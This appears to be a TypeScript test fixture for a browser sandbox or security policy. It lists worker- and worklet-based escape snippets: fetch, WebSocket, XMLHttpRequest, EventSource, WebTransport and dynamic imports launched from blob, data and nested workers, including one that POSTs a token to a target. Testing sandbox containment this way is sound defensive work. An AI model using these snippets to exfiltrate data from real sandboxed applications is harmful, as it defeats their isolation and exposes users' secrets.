import { address, blob, type Escape, file, quietly } from '../escape'

const made = (code: string) => `new Worker(${blob(code, 'text/javascript')})`
const socket = '(target.replace("http", "ws") + "/x?" + token)'

/** Workers that hostile code starts, and what it does inside the app's own. */
export const workers: readonly Escape[] = [
  { name: 'worker by address', code: `new Worker(${file('js')})` },
  { name: 'shared worker by address', code: `new SharedWorker(${file('js')})` },
  {
    name: 'fetch inside a blob worker',
    short: true,
    code: made(`'fetch("' + ${address} + '", { mode: "no-cors" })'`),
  },
  { name: 'importScripts inside a blob worker', code: made(`'importScripts("' + ${file('js')} + '")'`) },
  { name: 'import() inside a blob worker', code: made(`'import("' + ${file('js')} + '")'`) },
  { name: 'WebSocket inside a blob worker', code: made(`'new WebSocket("' + ${socket} + '")'`) },
  {
    name: 'fetch inside a data worker',
    code: `new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + ${address} + '", { mode: "no-cors" })'))`,
  },
  { name: 'fetch inside a worker', short: true, where: 'worker', code: `await fetch(${address}, ${quietly})` },
  {
    name: 'fetch with a body inside a worker',
    where: 'worker',
    code: `await fetch(target + '/x', { method: 'POST', mode: 'no-cors', body: token })`,
  },
  {
    name: 'XMLHttpRequest inside a worker',
    where: 'worker',
    code: `const x = new XMLHttpRequest(); x.open('GET', ${address}); x.send()`,
  },
  { name: 'WebSocket inside a worker', short: true, where: 'worker', code: `new WebSocket(${socket})` },
  { name: 'EventSource inside a worker', where: 'worker', code: `new EventSource(${address})` },
  { name: 'Cache.add inside a worker', where: 'worker', code: `await (await caches.open('z')).add(${address})` },
  { name: 'import() inside a worker', where: 'worker', code: `await import(${file('js')})` },
  { name: 'worker inside a worker', where: 'worker', code: `new Worker(${file('js')})` },
  {
    name: 'WebTransport inside a worker',
    only: 'elsewhere',
    where: 'worker',
    code: `new WebTransport('https://127.0.0.1:' + new URL(target).port + '/x?' + token)`,
  },
  { name: 'audio worklet', code: `await new AudioContext().audioWorklet.addModule(${file('js')})` },
  { name: 'paint worklet', code: `await CSS.paintWorklet.addModule(${file('js')})` },
  { name: 'worklet of shared storage', code: `await sharedStorage.worklet.addModule(${file('js')})` },
]
